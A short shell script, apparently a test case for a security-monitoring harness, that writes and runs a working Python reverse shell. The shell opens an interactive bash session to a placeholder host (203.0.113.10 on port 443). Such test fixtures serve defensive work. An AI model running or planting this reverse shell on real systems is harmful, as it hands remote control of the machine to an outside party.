#!/bin/sh
. /opt/case/case.sh

cat >/tmp/t.py <<'EOF'
import os, pty, select, socket
peer = socket.create_connection(("203.0.113.10", 443))
child, terminal = pty.fork()
if child == 0:
    os.execv("/bin/bash", ["bash", "-i"])
while True:
    ready, _, _ = select.select([peer, terminal], [], [], 5)
    if not ready:
        break
    try:
        if terminal in ready:
            peer.send(os.read(terminal, 4096))
        if peer in ready:
            os.write(terminal, peer.recv(4096))
    except OSError:
        break
EOF
python3 /tmp/t.py || true
wait_for /tmp/reached
took_place
